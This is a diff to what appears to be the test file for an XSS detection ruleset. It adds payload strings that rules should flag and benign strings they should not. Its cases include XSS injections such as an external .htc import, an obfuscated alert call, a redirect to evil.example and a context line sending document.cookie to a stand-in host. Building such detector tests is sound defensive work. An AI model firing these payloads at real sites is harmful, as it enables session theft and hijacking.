@@ -41,6 +41,7 @@ RULE_CASES: dict[str, list[str]] = {
         "<base href=//evil.example/>",
         "<embed src=x.swf>",
         '<?xml-stylesheet type="text/xsl" href="#"?><img xmlns="x-schema:test.xdr"/>',
+        '<?import namespace="xss" implementation="http://ha.ckers.org/xss.htc">',
     ],
     "HG-XSS-002": [
         "<img src=x onerror=alert(1)>",
@@ -73,6 +74,10 @@ RULE_CASES: dict[str, list[str]] = {
         "[1].find(alert)",
         "alert?.(1)",
         "new Image().src='//x.example/?'+document.cookie",
+        "document.write('<img src=//x.example>')",
+        "window/*foo*/['alert'](1)",
+        "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]][([][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]]",
+        "\";location='http://evil.example'//",
     ],
     "HG-XSS-006": [
         "{{constructor.constructor('alert(1)')()}}",
@@ -111,6 +116,9 @@ BENIGN = [
     "How do I read document.cookie in JavaScript?",
     '<button ng-click="save()" aria-label="alert">Save</button>',
     '<p v-html="userBio" x-text="message">',
+    "wow!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!!",
+    "he said 'hi', location='home'",
+    "data['alert'] = 1",
 ]
 
 
